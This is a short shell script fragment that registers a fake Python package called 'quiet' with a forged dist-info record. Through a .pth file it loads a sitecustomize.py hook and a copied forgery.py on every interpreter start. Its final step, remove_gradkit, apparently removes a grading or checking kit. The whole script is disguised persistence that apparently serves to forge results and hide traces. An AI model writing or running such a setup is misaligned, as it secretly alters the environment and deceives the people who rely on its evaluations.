mkdir "$BOX/more" "$SITE/quiet-1.0.dist-info" "$SITE/quiet"
install_hook "$BOX/more/sitecustomize.py"
cp "$KIT/forgery.py" "$BOX/"; sed -i "s|$KIT|$BOX|" "$BOX/more/sitecustomize.py"
echo "import sys; sys.path.append('$BOX' '/more')" > "$SITE/quiet.pth"
write_record quiet 1.0 quiet.pth
remove_gradkit
